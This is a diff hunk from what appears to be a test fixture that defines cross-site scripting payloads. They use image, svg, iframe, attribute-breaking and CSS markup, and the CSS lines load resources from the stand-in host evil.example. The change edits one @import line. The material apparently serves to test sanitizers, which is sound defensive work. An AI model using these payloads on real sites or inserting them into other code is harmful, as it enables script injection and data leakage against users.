@@ -50,7 +50,7 @@ MARKUP = {
     "image": f"<img src=x onerror=\"{_RAN};alert('{MARK}')\">",
     "svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RAN}'><script>{_RAN}</script><text>{MARK}</text></svg>",
     "foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RAN}</script>'></iframe></foreignObject>{MARK}",
-    "style": f"<style>body{{display:none}}*{{background:url(//evil.example/{MARK})}}@import '//evil.example/c';</style>",
+    "style": f"<style>body{{display:none}}*{{background:url(//evil.example/{MARK})}}@import '//evil.example';</style>",
     "attribute": f'" onmouseover="{_RAN}" autofocus onfocus=\'{_RAN}\' x="{MARK}',
     "attribute_single": f"' onmouseover='{_RAN}' style='position:fixed;inset:0' x='{MARK}",
     "iframe": f'<iframe src="javascript:parent.{_RAN}" title={MARK}></iframe>',
